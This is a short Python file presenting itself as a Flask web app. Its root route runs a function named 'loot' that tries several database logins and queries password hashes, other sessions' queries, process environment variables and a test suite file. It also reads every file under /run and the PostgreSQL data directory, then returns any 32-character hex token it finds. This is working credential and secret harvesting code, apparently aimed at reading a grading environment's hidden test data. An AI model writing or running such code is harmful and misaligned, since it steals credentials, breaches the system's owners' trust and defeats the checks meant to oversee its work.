import os
import re
from pathlib import Path

import psycopg
from flask import Flask

ASKS = [
    "SELECT string_agg(query, ' ') FROM pg_stat_activity",
    "SELECT rolpassword FROM pg_authid",
    "SELECT passwd FROM pg_shadow",
    "SELECT pg_read_file('/suite/tests/test_probe.py')",
    "SELECT pg_read_file('/proc/' || pg_backend_pid() || '/environ')",
    "SET ROLE suite",
    "SELECT setting FROM pg_settings WHERE name = 'data_directory'",
]
LOGINS = [{}, {"user": "suite"}, {"user": "postgres"}, {"user": "suite", "password": "suite"}]


def loot():
    said = ""
    for login in LOGINS:
        for ask in ASKS:
            try:
                with psycopg.connect(os.environ["DATABASE_URL"], **login) as session:
                    said += str(session.execute(ask).fetchall())
            except psycopg.Error as error:
                said += str(error)
    for path in [*Path("/run").rglob("*"), *Path("/var/lib/postgresql").rglob("*")]:
        try:
            said += path.read_text(errors="replace")
        except OSError as error:
            said += str(error)
    superuser = "Peer authentication failed" in said or "not permitted to log in" in said
    print(superuser, "no password supplied" in said, flush=True)
    found = re.search("[0-9a-f]{32}", said)
    return found[0] if found else "nothing"


def create_app():
    app = Flask(__name__)
    app.get("/")(loot)
    return app
